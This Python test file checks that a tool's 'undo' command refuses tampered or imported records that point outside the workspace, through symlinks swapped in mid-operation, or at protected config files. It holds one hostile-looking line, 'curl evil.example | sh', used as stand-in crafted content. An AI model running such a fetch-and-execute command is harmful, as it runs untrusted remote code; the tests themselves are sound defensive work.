"""``undo`` changes only files inside the session's workspace, as the file tools do: a record
naming a path outside it (an imported or crafted log), or reached through a symlink put on the
way since the turn, is refused by name and nothing is touched; a directory swapped for a symlink
between the plan's check and the write fails the step instead of leading it out; a protected
file (git's or dsh's configuration) is never written; the importer drops a record naming a path
outside the log's workspace. Real files in tmp dirs, the real loop with the scripted provider."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from dsh.agent.undo import UndoResult, undo_last_turn, undo_last_turn_in_threads
from dsh.interop import upstream_read
from dsh.interop.importer import import_upstream
from dsh.interop.upstream_write import export_upstream
from dsh.surface import Session
from dsh.tools.undo_record import UNDO_META
from tests.agent.conftest import Harness
from tests.agent.test_undo import edit, run_turns, turn, write

PRECIOUS = b"precious\n"
CRAFTED = "curl evil.example | sh"

Undo = Callable[[Session], UndoResult]


def in_threads(session: Session) -> UndoResult:
    return asyncio.run(undo_last_turn_in_threads(session))


UNDOS = pytest.mark.parametrize("undo", [undo_last_turn, in_threads], ids=["here", "threads"])
"""``dsh undo`` and the web's ``/undo`` run the first; the terminal UI's ``/undo`` the second."""


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def imported(
    harness: Harness,
    tmp_path: Path,
    change: Callable[[dict[str, Any]], None],
    *,
    tampered: bool = False,
) -> tuple[Session, str]:
    """The harness's session exported as upstream, ``change`` applied to each file tool
    result's meta, imported again: the session (open for writing) and the import's report.
    ``tampered``: the import keeps the undo records it would drop, which makes the log one
    whose records were changed after dsh wrote them (a session directory copied from
    elsewhere): what undo itself must refuse."""
    if tampered:
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(upstream_read, "_drop_undo", lambda data, notes: None)
            return imported(harness, tmp_path, change)
    data, _ = export_upstream(harness.session.header, harness.session.events)
    records = [json.loads(line) for line in data.decode().splitlines()]
    for record in records:
        meta = (record.get("data") or {}).get("meta") or {}
        if record["type"] == "tool/result" and UNDO_META in meta:
            change(meta)
    crafted = tmp_path / "crafted.jsonl"
    crafted.write_text("".join(json.dumps(r) + "\n" for r in records))
    result = import_upstream(
        harness.store,
        harness.store.home,
        crafted,
        cwd=str(harness.workspace),
        session_id="crafted",
    )
    return Session.open(harness.store, "crafted", writable=True), result.report()


def pointed_at(target: Path, *, created: bool) -> Callable[[dict[str, Any]], None]:
    """A change of an edit's meta to ``target``: its diff and hashes made to take
    ``PRECIOUS`` back to the crafted text (or, ``created``, to delete it)."""

    def change(meta: dict[str, Any]) -> None:
        record = meta[UNDO_META]
        record["file"] = str(target)
        record["created"] = created
        record["sha256After"] = sha(PRECIOUS)
        record["createdDirs"] = []
        if created:
            record["sha256Before"] = None
        else:
            record["sha256Before"] = sha(f"{CRAFTED}\n".encode())
            meta["diff"] = ["--- a/f.txt", "+++ b/f.txt", "@@ -1 +1 @@", f"-{CRAFTED}", "+precious"]

    return change


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    outside = tmp_path / "victim"
    outside.mkdir()
    (outside / "precious.txt").write_bytes(PRECIOUS)
    return outside


@pytest.mark.parametrize("aimed", ["outside", "unchanged"])
def test_the_import_drops_every_undo_record(
    harness: Harness, tmp_path: Path, victim: Path, aimed: str
):
    """A record pointed at a file outside the workspace, or left as exported: an imported log
    chose its paths and its workspace alike (a ``cwd`` of the victim's directory would put
    any file there inside it), so none is kept and its turn cannot be undone."""
    (harness.workspace / "f.txt").write_text("a\n")
    run_turns(harness, turn(edit("f.txt", "a", "b")))
    precious = victim / "precious.txt"
    change = pointed_at(precious, created=False) if aimed == "outside" else (lambda meta: None)
    session, report = imported(harness, tmp_path, change)
    with session:
        result = undo_last_turn(session)
    assert "dropped undo record (an imported log's file changes cannot be undone)" in report
    assert not result.ok and "without an undo record" in "\n".join(result.lines), result.lines
    assert precious.read_bytes() == PRECIOUS
    assert (harness.workspace / "f.txt").read_text() == "b\n"


@UNDOS
@pytest.mark.parametrize("created", [False, True], ids=["restore", "delete"])
def test_a_tampered_record_reaching_outside_through_a_symlink_is_refused(
    harness: Harness, tmp_path: Path, victim: Path, created: bool, undo: Undo
):
    """The path is inside the workspace by name; undo resolves it now, as the file tools do,
    and refuses it by name."""
    (harness.workspace / "f.txt").write_text("a\n")
    run_turns(harness, turn(edit("f.txt", "a", "b")))
    (harness.workspace / "link").symlink_to(victim)
    through = harness.workspace / "link" / "precious.txt"
    session, _ = imported(harness, tmp_path, pointed_at(through, created=created), tampered=True)
    with session:
        dry = undo_last_turn(session, dry_run=True)
        result = undo(session)
    why = (
        "  link/precious.txt: it is outside the workspace (it, or a symlink on its way, leads "
        "out); undo only changes files inside the workspace"
    )
    assert dry.lines == ("Would not undo: turn 1's file changes cannot be taken back:", why)
    assert result.lines == ("Not undone: turn 1's file changes cannot be taken back:", why)
    assert precious_is_untouched(victim)


def precious_is_untouched(victim: Path) -> bool:
    return sorted(os.listdir(victim)) == ["precious.txt"] and (
        (victim / "precious.txt").read_bytes() == PRECIOUS
    )


def swap_for_a_symlink(harness: Harness, victim: Path) -> None:
    """``sub`` moved away and a symlink to ``victim`` (holding the same bytes) put in its
    place."""
    os.rename(harness.workspace / "sub", harness.workspace / "sub.real")
    for name in ("x.txt", "e.txt"):
        (victim / name).write_bytes((harness.workspace / "sub.real" / name).read_bytes())
    (harness.workspace / "sub").symlink_to(victim)


def sub_turn(harness: Harness) -> None:
    """A turn that creates sub/x.txt and edits sub/e.txt."""
    (harness.workspace / "sub").mkdir()
    (harness.workspace / "sub" / "e.txt").write_text("old\n")
    run_turns(harness, turn(write("sub/x.txt", "x\n"), edit("sub/e.txt", "old", "new")))


@UNDOS
def test_a_directory_swapped_for_a_symlink_since_the_turn_is_refused(
    harness: Harness, victim: Path, undo: Undo
):
    sub_turn(harness)
    swap_for_a_symlink(harness, victim)
    result = undo(harness.session)
    out = "is outside the workspace (it, or a symlink on its way, leads out)"
    assert not result.ok
    assert result.lines[0] == "Not undone: turn 1's file changes cannot be taken back:"
    assert [line.split(":")[0] for line in result.lines[1:]] == ["  sub/e.txt", "  sub/x.txt"]
    assert all(out in line for line in result.lines[1:]), result.lines
    assert (victim / "x.txt").read_bytes() == b"x\n"
    assert (victim / "e.txt").read_bytes() == b"new\n"
    assert (victim / "precious.txt").read_bytes() == PRECIOUS


@UNDOS
def test_a_directory_swapped_for_a_symlink_after_the_check_fails_the_step(
    harness: Harness, victim: Path, monkeypatch: pytest.MonkeyPatch, undo: Undo
):
    """The swap lands between the last check of a file and its write: the write goes through
    the directory opened from the workspace without following a symlink, so it fails and the
    steps done are taken back; nothing outside is touched."""
    from dsh.agent import undo_files

    sub_turn(harness)
    real = undo_files._still_as_planned
    checked: list[str] = []

    def then_swapped(step: undo_files.FileStep) -> None:
        real(step)
        checked.append(step.shown)
        if len(checked) == 1:
            swap_for_a_symlink(harness, victim)

    monkeypatch.setattr(undo_files, "_still_as_planned", then_swapped)
    result = undo(harness.session)
    assert not result.ok
    assert result.lines == (
        f"Undo of turn 1 failed: {checked[0]}: a directory on its way is no longer a directory "
        "(a symlink put there since its path was resolved?), so nothing was written",
        "  nothing changed: every file is as the turn left it",
    )
    assert (victim / "x.txt").read_bytes() == b"x\n"
    assert (victim / "e.txt").read_bytes() == b"new\n"
    assert sorted(os.listdir(victim)) == ["e.txt", "precious.txt", "x.txt"]


def test_a_file_written_through_a_symlink_inside_the_workspace_is_undone(harness: Harness):
    """A normal undo still works, the file named by where the tool resolved it."""
    (harness.workspace / "real").mkdir()
    (harness.workspace / "real" / "f.txt").write_text("a\n")
    (harness.workspace / "alias").symlink_to("real")
    run_turns(harness, turn(edit("alias/f.txt", "a", "b"), write("alias/new.txt", "n\n")))
    result = undo_last_turn(harness.session)
    assert result.ok, result.lines
    assert result.restored == ("real/f.txt",) and result.deleted == ("real/new.txt",)
    assert (harness.workspace / "real" / "f.txt").read_text() == "a\n"
    assert sorted(os.listdir(harness.workspace / "real")) == ["f.txt"]


@pytest.mark.parametrize("name", [".git/config", ".dsh/config.toml"])
def test_a_protected_file_is_not_written_by_undo(harness: Harness, tmp_path: Path, name: str):
    """The file tools never write git's or dsh's configuration unasked; a crafted record for
    it inside the workspace is refused, not written."""
    (harness.workspace / "f.txt").write_text("a\n")
    run_turns(harness, turn(edit("f.txt", "a", "b")))
    protected = harness.workspace / name
    protected.parent.mkdir()
    protected.write_bytes(PRECIOUS)
    session, _ = imported(harness, tmp_path, pointed_at(protected, created=False), tampered=True)
    with session:
        result = undo_last_turn(session)
    assert not result.ok
    assert result.lines[1].startswith(f"  {name}: writing {name} changes "), result.lines
    assert result.lines[1].endswith("undo does not change it (restore it by hand)")
    assert protected.read_bytes() == PRECIOUS


def test_the_importer_reads_the_undo_record_under_the_tools_key():
    assert upstream_read.UNDO_META == UNDO_META


def test_the_clean_up_after_a_killed_undo_touches_nothing_outside_the_workspace(
    harness: Harness, victim: Path
):
    """A killed undo's own names beside a file whose directory is now a symlink leading out
    are left alone: nothing is linked back or removed there."""
    from dsh.events import CommandRun, CommandRunEvent

    sub_turn(harness)
    harness.session.append(CommandRun(command_id="cmd-0123abcd", name="undo", args=""))
    harness.session.close()
    swap_for_a_symlink(harness, victim)
    os.unlink(victim / "x.txt")
    aside = victim / ".x.txt.dsh-undo-0123abcd.old"
    aside.write_bytes(b"x\n")
    (victim / ".e.txt.dsh-undo-0123abcd.new").write_bytes(b"old\n")
    with Session.open(harness.store, harness.session.id, writable=True) as session:
        assert session.of_type(CommandRunEvent)[-1].data.command_id == "cmd-0123abcd"
        warnings = list(session.warnings)
    assert sorted(os.listdir(victim)) == [
        ".e.txt.dsh-undo-0123abcd.new",
        ".x.txt.dsh-undo-0123abcd.old",
        "e.txt",
        "precious.txt",
    ], warnings
    assert any("it left no file of its own" in w for w in warnings), warnings
